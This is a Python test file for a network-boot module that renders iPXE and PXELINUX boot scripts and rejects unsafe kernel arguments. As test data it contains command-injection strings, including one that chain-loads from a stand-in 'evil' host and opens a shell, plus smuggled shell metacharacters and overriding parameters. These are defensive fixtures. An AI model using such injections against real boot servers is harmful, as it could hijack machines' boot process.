"""What iPXE and PXELINUX are told."""

from __future__ import annotations

from ipaddress import IPv4Address

import pytest
from hypothesis import given
from hypothesis import strategies as st

from si.boot.netboot import (
    InstallEntry,
    LocalEntry,
    check_append,
    hardware_name,
    kernel_arguments,
    parse_pxelinux_name,
    render_boot_ipxe,
    render_ipxe,
    render_pxelinux,
)
from si.errors import BootArgumentsInvalid

ENTRY = InstallEntry(
    client="web1",
    mac="52:54:00:aa:bb:01",
    arch="x86_64",
    flavor="virtio",
    token="s3cret-_",
    server="http://10.77.0.1:8080",
    append="net.ifnames=0 quiet",
)
ARGUMENTS = (
    "si.server=http://10.77.0.1:8080 si.client=web1 si.token=s3cret-_ "
    "BOOTIF=01-52-54-00-aa-bb-01 console=tty0 console=ttyS0,115200 net.ifnames=0 quiet"
)


def test_ipxe_loads_kernel_and_initrd_and_says_so_when_it_cannot() -> None:
    lines = render_ipxe(ENTRY).splitlines()
    flavor = "http://10.77.0.1:8080/flavors/x86_64/virtio"
    assert lines[0] == "#!ipxe"
    assert f"kernel {flavor}/kernel initrd=initrd.img {ARGUMENTS} || goto failed" in lines
    assert f"initrd --name initrd.img {flavor}/initrd.img || goto failed" in lines
    assert lines[-1] == "reboot", "a machine that was to be installed must not sit in a shell"


def test_pxelinux_loads_both_over_tftp() -> None:
    assert render_pxelinux(ENTRY) == (
        "DEFAULT install\nPROMPT 0\nLABEL install\n"
        "  SAY si: installing web1\n"
        "  KERNEL flavors/x86_64/virtio/kernel\n"
        "  INITRD flavors/x86_64/virtio/initrd.img\n"
        f"  APPEND {ARGUMENTS}\n"
    )


def test_local_entries_start_nothing_but_the_disk() -> None:
    entry = LocalEntry("web1 is written, booting its own disk")
    ipxe, pxelinux = render_ipxe(entry), render_pxelinux(entry)
    assert "sanboot --no-describe --drive 0x80 ||\nexit 1\n" in ipxe
    assert "kernel" not in ipxe
    assert "LOCALBOOT" in pxelinux
    assert "KERNEL" not in pxelinux


def test_a_reason_cannot_become_a_command() -> None:
    entry = LocalEntry("x\n\rchain http://evil/ ${net0/mac} || shell; `id`")
    for text in (render_ipxe(entry), render_pxelinux(entry)):
        shown = next(line for line in text.splitlines() if "evil" in line)
        assert shown.split()[0] in ("echo", "SAY")
        assert not set("$|;`") & set(shown)
        assert "\n\rchain" not in text


def test_the_first_script_asks_again_with_the_mac() -> None:
    text = render_boot_ipxe("http://10.77.0.1:8080")
    assert "chain --autofree http://10.77.0.1:8080/boot/ipxe/${netX/mac}" in text
    assert "sanboot" in text, "without an answer the machine starts its own disk"


@pytest.mark.parametrize(
    "text",
    [
        "quiet\nreboot", "a\tb", "a\rb", 'name="x y"', "it's", "a\\b", "${net0/ip}", "$HOME",
        "a || b", "a && b", "a ; b", "#comment", "ümlaut", "a\0b", "a\x1b[2Jb", "`id`",
        "si.token=mine", "si.server=http://evil", "si.client=x", "initrd=x", "BOOTIF=x", "x " * 600,
    ],
)  # fmt: skip
def test_arguments_that_would_not_arrive_are_refused(text: str) -> None:
    with pytest.raises(BootArgumentsInvalid) as caught:
        check_append(text)
    assert caught.value.hint


def test_usual_arguments_pass() -> None:
    text = "console=ttyS1,115200n8 ip=10.0.0.1::10.0.0.254:255.255.255.0::eth0:off mem=512M@0x100"
    assert check_append(f"  {text}   nosmt  ") == f"{text} nosmt"
    assert check_append("") == ""


@given(st.text(max_size=40))
def test_whatever_passes_stays_one_line_of_plain_words(text: str) -> None:
    try:
        clean = check_append(text)
    except BootArgumentsInvalid:
        return
    assert clean.isascii()
    assert clean.isprintable() or clean == ""
    assert not set("\"'\\$`#") & set(clean)


def test_arguments_are_checked_again_when_they_are_used() -> None:
    with pytest.raises(BootArgumentsInvalid):
        kernel_arguments(InstallEntry("a", "m", "x86_64", "v", "t", "http://s:1", "a\nb"))


def test_names_of_pxelinux() -> None:
    assert parse_pxelinux_name("01-52-54-00-AA-bb-01") == "52:54:00:aa:bb:01"
    assert hardware_name("52:54:00:aa:bb:01") == "01-52-54-00-aa-bb-01"
    assert parse_pxelinux_name("0A4D0066") == IPv4Address("10.77.0.102")
    for other in ("0A4D006", "0a4d0066", "01-52-54-00-aa-bb", "default", "", "20-52-54-00-aa-bb-1"):
        assert parse_pxelinux_name(other) is None
